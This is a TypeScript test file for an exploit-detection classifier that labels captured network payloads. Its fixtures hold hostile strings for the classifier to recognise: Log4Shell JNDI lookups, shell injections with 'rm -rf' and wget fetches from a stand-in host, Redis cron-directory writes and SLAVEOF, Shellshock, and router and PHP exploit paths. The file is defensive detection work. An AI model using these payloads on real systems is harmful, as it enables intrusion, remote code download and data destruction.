/** Exploit rules: what each finds, and requests that are none; the word of a prober. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import { batchOf } from '../testing/captures.ts';
import {
  EXPLOIT_RULES,
  exploitOf,
  PAYLOAD_EXPLOIT,
  PAYLOAD_NOTHING,
  PAYLOAD_PROBE_URI,
  payloadKind,
} from './payloads.ts';

const bytes = (text: string): Uint8Array => Uint8Array.from(text, (letter) => letter.charCodeAt(0));

/* biome-ignore-start lint/suspicious/noTemplateCurlyInString: payloads are texts */
const EXPLOITS: Readonly<Record<string, readonly string[]>> = {
  log4shell: ['GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://a.invalid/x}', '${${LOWER:j}ndi:dns://a.invalid}'],
  shell_injection: [
    'GET /shell?cd+/tmp;rm+-rf+*',
    'POST /x HTTP/1.0\r\n\r\nx=;wget http://a.invalid/b',
    '/bin/busybox MIRAI',
  ],
  gpon: ['POST /GponForm/diag_Form?images/ HTTP/1.1'],
  netgear_setup: ['GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm'],
  huawei_hg532: ['POST /ctrlt/DeviceUpgrade_1 HTTP/1.1'],
  realtek_sdk: ['POST /picsdesc.xml HTTP/1.1'],
  phpunit: ['POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1'],
  thinkphp: ['GET /index.php?s=/index/think/app/invokefunction&function=call_user_func_array'],
  traversal: ['GET /cgi-bin/.%2e/.%2e/bin/sh'],
  shellshock: ['GET / HTTP/1.1\r\nReferer: () { :; }; ping'],
  spring4shell: ['POST /?class.module.classLoader.resources'],
  ognl: ['GET / HTTP/1.1\r\nContent-Type: %{(#_=1)}'],
  adb_shell: ['OPENX\0\0\0shell:cd /data/local/tmp; busybox'],
  redis_write: ['*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$15\r\n/var/spool/cron', 'SLAVEOF\r\n$9\r\na.invalid'],
};
const REQUESTS = [
  '',
  'GET / HTTP/1.1\r\nHost: a.invalid\r\n',
  'GET /.env HTTP/1.1',
  '*1\r\n$4\r\nINFO\r\n',
  '*1\r\n$4\r\nPING\r\n',
  '\0\0\0\x2f\xffSMBr\0\0\0\0',
  '\x03\0\0\x13\x0e\xe0\0\0Cookie: mstshash=hello',
  '\x16\x03\x01\x02\0\x01\0\x01\xfc',
  'SSH-2.0-Go',
  'OPTIONS sip:nm SIP/2.0',
  '$ {jndi',
];
/* biome-ignore-end lint/suspicious/noTemplateCurlyInString: payloads are texts */

describe('exploitOf', () => {
  for (const { name } of EXPLOIT_RULES) {
    test(name, () => {
      assert.ok((EXPLOITS[name] ?? []).length > 0, 'a rule has an example');
      for (const text of EXPLOITS[name]) assert.equal(exploitOf(bytes(text))?.name, name, text);
    });
  }

  test('requests are no exploits', () => {
    for (const text of REQUESTS) assert.equal(exploitOf(bytes(text)), undefined, text);
  });

  test('any bytes have an answer, and a pattern is found wherever it stands', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 64 }), fc.uint8Array({ maxLength: 64 }), (front, behind) => {
        exploitOf(front);
        assert.notEqual(exploitOf(Uint8Array.from([...front, ...bytes('/GponForm/diag_Form'), ...behind])), undefined);
      }),
    );
  });
});

describe('payloadKind', () => {
  test('reads the row’s own bytes alone', () => {
    const rows = ['/bin/busy', 'box', '', '/bin/busybox'].map((payload) => ({ payload }));
    const batch = batchOf(rows);
    assert.deepEqual(
      rows.map((_, row) => payloadKind(batch, row)),
      [PAYLOAD_NOTHING, PAYLOAD_NOTHING, PAYLOAD_NOTHING, PAYLOAD_EXPLOIT],
    );
  });

  test('a prober’s own word, not the question for one', () => {
    const batch = batchOf([
      { payload: 'https://a.invalid/.well-known/probing.txt' },
      { payload: 'mailto:lab@a.invalid' },
      { payload: 'GET /.well-known/probing.txt HTTP/1.1\r\nReferer: https://a.invalid/' },
      { payload: 'mail' },
      { payload: 'to:a' },
    ]);
    assert.deepEqual(
      [0, 1, 2, 3, 4].map((row) => payloadKind(batch, row)),
      [PAYLOAD_PROBE_URI, PAYLOAD_PROBE_URI, PAYLOAD_NOTHING, PAYLOAD_NOTHING, PAYLOAD_NOTHING],
    );
  });
});
